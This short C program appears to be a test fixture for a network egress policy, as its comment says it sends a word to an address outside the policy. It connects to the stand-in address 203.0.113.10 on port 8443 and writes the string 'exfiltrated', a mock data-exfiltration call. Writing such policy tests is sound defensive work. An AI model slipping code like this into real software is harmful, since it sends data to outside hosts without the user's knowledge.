// A static program of the function that sends a word to an address outside of the policy.
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(8443)};
  inet_pton(AF_INET, "203.0.113.10", &address.sin_addr);
  int connection = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(connection, (struct sockaddr *)&address, sizeof address) != 0)
    return 1;
  return write(connection, "exfiltrated", 11) == 11 ? 0 : 1;
}
